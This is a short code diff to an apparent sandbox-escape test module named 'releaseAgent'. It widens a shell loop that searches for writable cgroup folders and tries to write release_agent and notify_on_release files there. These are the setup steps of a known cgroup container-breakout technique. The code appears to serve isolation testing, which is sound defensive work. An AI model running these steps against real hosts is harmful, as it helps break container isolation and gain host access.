@@ -10,7 +10,8 @@ export const releaseAgent: Attack = {
       const { lines } = await under.sh(`
         echo looked
         find / -xdev -name release_agent -o -name cgroup.procs -o -name notify_on_release 2>/dev/null | head -n 20
-        for folder in /sys/fs/cgroup /sys/fs/cgroup/*; do
+        # A folder that was handed to the cell's user on the host would be writable here.
+        for folder in /sys/fs/cgroup $(find /sys/fs/cgroup -type d -writable 2>/dev/null | head -n 50); do
           (echo "#!/bin/sh" > $folder/release_agent) 2>/dev/null && echo "WRITTEN $folder/release_agent"
           (echo 1 > $folder/notify_on_release) 2>/dev/null && echo "WRITTEN $folder/notify_on_release"
           mkdir $folder/attack 2>/dev/null && echo "MADE $folder/attack"
